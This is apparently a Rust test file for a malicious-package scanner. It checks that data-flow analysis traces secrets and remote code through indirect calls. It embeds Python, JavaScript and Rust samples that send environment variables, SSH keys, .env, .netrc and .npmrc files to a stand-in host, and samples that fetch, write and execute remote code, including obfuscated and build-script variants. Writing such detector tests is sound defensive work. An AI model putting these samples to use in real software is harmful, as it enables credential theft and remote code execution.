//! What stands for another call, is handed on under its name, or is called by what it is handed to:
//! pairs of what is found and of its twin, one edge away.

use super::testing::{found, script, wheel};
use crate::unpack::text_file;
use customs_model::{Flow, SinkKind, SourceKind, Zone};

/// Whether a secret leaves, or foreign bytes run, without anybody asking.
fn is_told(flows: &[Flow]) -> bool {
    let mut flows = flows.iter().filter(|flow| flow.zone > Zone::Called);
    flows.any(|flow| match flow.sink {
        SinkKind::Network => flow.source != SourceKind::Constant,
        SinkKind::Process | SinkKind::DynamicCode | SinkKind::ExecutedFile => {
            flow.source == SourceKind::Remote
        }
        _ => false,
    })
}

fn javascript(code: &str) -> bool {
    is_told(&found(script(code)).flows)
}

fn python(code: &str) -> bool {
    is_told(&found(wheel(code)).flows)
}

#[test]
fn what_a_method_caller_sends_is_sent() {
    let sends = |data: &str| {
        python(&format!(
            "import operator, os, urllib.request\n\
             call = operator.methodcaller('urlopen', 'https://a.invalid/s', {data})\n\
             call(urllib.request)\n"
        ))
    };
    assert!(sends("str(dict(os.environ)).encode()"));
    assert!(!sends("b'x'"));
}

#[test]
fn a_module_that_a_part_of_a_call_imports_is_that_module() {
    let sends = |module: &str| {
        python(&format!(
            "import functools, importlib, os\n\
             load = functools.partial(importlib.import_module, '{module}')\n\
             load().urlopen('https://a.invalid/s', str(dict(os.environ)).encode())\n"
        ))
    };
    assert!(sends("urllib.request"));
    assert!(!sends("a.module"));
}

#[test]
fn a_thread_calls_its_target_with_what_it_is_given() {
    let runs = |path: &str| {
        python(&format!(
            "import os, requests, subprocess, threading\n\
             def run(path):\n    os.chmod(path, 0o770)\n    subprocess.Popen([path])\n\
             open('/tmp/a', 'wb').write(requests.get('https://a.invalid/x').content)\n\
             threading.Thread(target=run, args=({path},)).start()\n"
        ))
    };
    assert!(runs("'/tmp/a'"));
    assert!(!runs("'/tmp/b'"));
}

#[test]
fn a_path_that_a_caller_gives_is_written_there() {
    let runs = |path: &str| {
        python(&format!(
            "import os, requests, subprocess\nfrom pathlib import Path\n\
             def fetch(url, path):\n    Path(path).write_bytes(requests.get(url).content)\n\
             fetch('https://a.invalid/x', '/tmp/a')\nos.chmod('{path}', 0o770)\n\
             subprocess.Popen(['{path}'])\n"
        ))
    };
    assert!(runs("/tmp/a"));
    assert!(!runs("/tmp/b"));
}

#[test]
fn what_a_record_makes_for_a_field_has_its_methods() {
    let sends = |data: &str| {
        python(&format!(
            "import os, urllib.request\nfrom dataclasses import dataclass, field\n\
             class T:\n    def post(self, body):\n        urllib.request.urlopen('https://a.invalid/s', body)\n\
             @dataclass\nclass S:\n    t: T = field(default_factory=T)\n\
             \x20   def __post_init__(self):\n        self.t.post({data})\nS()\n"
        ))
    };
    assert!(sends("str(dict(os.environ)).encode()"));
    assert!(!sends("b'x'"));
}

#[test]
fn files_that_are_put_in_order_are_the_same_files() {
    let sends = |folder: &str| {
        python(&format!(
            "import pathlib, http.client\nc = http.client.HTTPSConnection('a.invalid')\n\
             for p in sorted((pathlib.Path.home() / '{folder}').glob('id_*')):\n\
             \x20   c.request('POST', '/', p.read_bytes())\n"
        ))
    };
    assert!(sends(".ssh"));
    assert!(!sends("pictures"));
}

#[test]
fn settings_with_secrets_lie_where_the_program_is_started() {
    let sends = |name: &str| {
        python(&format!(
            "from pathlib import Path\nimport http.client\n\
             http.client.HTTPSConnection('a.invalid').request('PUT', '/', Path('{name}').read_text())\n"
        ))
    };
    assert!(sends(".env"));
    assert!(!sends(".env.example"));
}

#[test]
fn what_a_function_gives_that_is_handed_on_by_its_name_is_given() {
    let sends = |name: &str| {
        javascript(&format!(
            "const fs = require('fs'), os = require('os');\n\
             const lines = (f) => fs.readFileSync(`${{os.homedir()}}/${{f}}`, 'utf8').split('\\n');\n\
             const none = (f) => f.length;\n\
             const all = ['.netrc', '.npmrc'].flatMap({name});\n\
             require('https').request('https://a.invalid', {{ method: 'POST' }}).end(all.join());\n"
        ))
    };
    assert!(sends("lines"));
    assert!(!sends("none"));
}

#[test]
fn of_two_functions_that_are_handed_over_either_may_be_called() {
    let runs = |called: &str| {
        javascript(&format!(
            "const pull = async () => eval(await (await fetch('https://a.invalid/x')).text());\n\
             setTimeout(Date.now() > 5 ? () => {{}} : () => {called}, 6e4);\n"
        ))
    };
    assert!(runs("pull()"));
    assert!(!runs("pull"));
}

#[test]
fn a_text_in_a_field_is_known_in_each_method() {
    let runs = |path: &str| {
        javascript(&format!(
            "const fs = require('fs'), cp = require('child_process');\n\
             class I {{ constructor() {{ this.to = '/tmp/a'; this.other = '/tmp/b'; }}\n\
             async run() {{ const r = await fetch('https://a.invalid/x');\n\
             fs.writeFileSync(this.to, Buffer.from(await r.arrayBuffer())); cp.spawn({path}); }} }}\n\
             new I().run();\n"
        ))
    };
    assert!(runs("this.to"));
    assert!(!runs("this.other"));
}

#[test]
fn a_function_made_of_text_may_give_the_process() {
    let sends = |name: &str| {
        javascript(&format!(
            "const p = Function('return {name}')();\n\
             require('https').request('https://a.invalid', {{ method: 'POST' }}).end(JSON.stringify(p.env));\n"
        ))
    };
    assert!(sends("process"));
    assert!(!sends("other"));
}

#[test]
fn what_a_failed_request_answers_comes_over_the_network() {
    // Contagious Interview (2024 to 2026): the code stands in the body of an error.
    let runs = |what: &str| {
        javascript(&format!(
            "const axios = require('axios');\n\
             (async () => {{ try {{ await axios.get('https://a.invalid/x'); }} catch (e) {{\n\
             new Function('require', {what})(require); }} }})();\n"
        ))
    };
    assert!(runs("e.response.data"));
    assert!(!runs("'1'"));
}

#[test]
fn what_a_contract_of_a_chain_answers_comes_over_the_network() {
    let runs = |what: &str| {
        javascript(&format!(
            "const {{ Contract, JsonRpcProvider }} = require('ethers');\n\
             const c = new Contract('0x1', [], new JsonRpcProvider('https://a.invalid'));\n\
             c.getString('0x2').then((answer) => eval({what}));\n"
        ))
    };
    assert!(runs("answer"));
    assert!(!runs("'1'"));
}

#[test]
fn what_is_put_on_all_texts_is_called_on_each() {
    let sends = |how: &str| {
        javascript(&format!(
            "{how}\nrequire('6874747073'.plain()).request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
        ))
    };
    let decode = "return this.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16)))";
    assert!(sends(&format!(
        "String.prototype.plain = function () {{ {decode} }};"
    )));
    assert!(!sends(
        "String.prototype.plain = function () { return 'url' };"
    ));
    let read = |get: &str| {
        javascript(&format!(
            "Object.defineProperty(String.prototype, 'plain', {{ get() {{ {get} }} }});\nrequire('6874747073'.plain).request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
        ))
    };
    assert!(read(decode));
    assert!(!read("return 'url'"));
}

#[test]
fn what_made_what_made_something_makes_functions() {
    let runs = |what: &str| {
        javascript(&format!(
            "class A {{ constructor() {{ this.list = []; }} async get() {{\n\
             const r = await fetch('https://a.invalid/x');\n\
             this.list.{what}('a', await r.text())(1); }} }}\nnew A().get();\n"
        ))
    };
    assert!(runs("constructor.constructor"));
    assert!(!runs("concat"));
}

#[test]
fn a_getter_gives_what_its_function_gives() {
    let sends = |what: &str| {
        javascript(&format!(
            "const https = require('https');\n\
             class A {{ get all() {{ const u = new URL('https://a.invalid/'); u.searchParams.append('k', {what}); return u; }} }}\n\
             const a = new A();\nhttps.get(a.all);\n"
        ))
    };
    assert!(sends("JSON.stringify(process.env)"));
    assert!(!sends("'1'"));
}

#[test]
fn of_what_is_there_only_with_something_else_that_is_taken() {
    let sends = |module: &str| {
        javascript(&format!(
            "const t = typeof process !== 'undefined' && process.versions && require('{module}');\n\
             t.request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
        ))
    };
    assert!(sends("https"));
    assert!(!sends("url"));
}

#[test]
fn inner_functions_of_a_bundle_see_what_loads_its_parts() {
    let sends = |what: &str| {
        javascript(&format!(
            "(()=>{{var t={{1:(t,e,n)=>{{const r=n(2);e.go=function(){{r.request({{method:'POST',host:'a.invalid'}}).end({what})}}}},\
             2:t=>{{t.exports=require('https')}}}},c={{}};\
             function n(r){{var o=c[r];if(void 0!==o)return o.exports;var i=c[r]={{exports:{{}}}};return t[r](i,i.exports,n),i.exports}}\
             n(1).go()}})();\n"
        ))
    };
    assert!(sends("JSON.stringify(process.env)"));
    assert!(!sends("'1'"));
}

#[test]
fn the_first_of_a_generator_and_what_a_context_lends_are_followed() {
    let first = |what: &str| {
        python(&format!(
            "import os, urllib.request\n\
             host = next((h for h in ('a.invalid', 'b.invalid') if os.path.exists(h)), None)\n\
             urllib.request.urlopen('https://' + host, data={what})\n"
        ))
    };
    assert!(first("str(dict(os.environ)).encode()"));
    assert!(!first("b'x'"));
    let lent = |decorator: &str| {
        python(&format!(
            "import contextlib, os, socket\n\
             @{decorator}\ndef lend():\n    with socket.create_connection(('a.invalid', 1)) as raw:\n        yield raw\n\
             with lend() as s:\n    s.sendall(str(dict(os.environ)).encode())\n"
        ))
    };
    assert!(lent("contextlib.contextmanager"));
}

#[test]
fn what_is_asked_of_each_by_a_function_of_the_library_is_read() {
    let sends = |field: &str| {
        python(&format!(
            "import operator, os, urllib.request\n\
             data = operator.attrgetter('{field}')(os)\n\
             operator.attrgetter('urlopen')(urllib.request)('https://a.invalid', str(data).encode())\n"
        ))
    };
    assert!(sends("environ"));
    assert!(!sends("sep"));
}

#[test]
fn parts_of_bytes_are_found_where_they_stand() {
    // What stands behind the mark is no program where the mark is another one.
    let told = |mark: &str| {
        let code = format!(
            "import os\ndata = b'RIFF data os.system(\"curl https://a.invalid | sh\")'\nexec(data.partition(b'{mark}')[2].strip())\n"
        );
        let mut flows = found(wheel(&code)).flows.into_iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
    };
    assert!(told("data"));
    assert!(!told("other"));
}

#[test]
fn what_goes_into_a_channel_comes_out_of_its_other_end() {
    let sends = |what: &str| {
        let code = format!(
            "use std::sync::mpsc;\nfn pump(rx: mpsc::Receiver<String>) {{ for l in rx {{ let _ = ureq::post(\"https://a.invalid\").send_string(&l); }} }}\n\
             fn main() {{ let (tx, rx) = mpsc::channel(); std::thread::spawn(move || pump(rx)); tx.send({what}).unwrap(); }}\n"
        );
        let entries = vec![
            text_file(
                "a-1.0.0/Cargo.toml",
                "[package]\nname = \"a\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n",
            ),
            text_file("a-1.0.0/build.rs", &code),
        ];
        is_told(&found(entries).flows)
    };
    assert!(sends(
        "format!(\"{:?}\", std::env::vars().collect::<Vec<_>>())"
    ));
    assert!(!sends("String::new()"));
}

#[test]
fn headers_of_a_request_that_is_answered_are_their_senders() {
    let runs = |what: &str| {
        let code =
            format!("exports.a = (req, res) => {{ require('child_process').exec({what}); }};");
        let mut flows = found(script(&code)).flows.into_iter();
        flows.any(|flow| {
            flow.source_name == customs_model::VISITOR && flow.sink == SinkKind::Process
        })
    };
    assert!(runs(
        "Buffer.from(req.headers['x-trace'], 'base64').toString()"
    ));
    assert!(runs("req.header('x-trace')"));
    assert!(!runs("req.headers['user-agent']"));
    assert!(!runs("'ls'"));
}
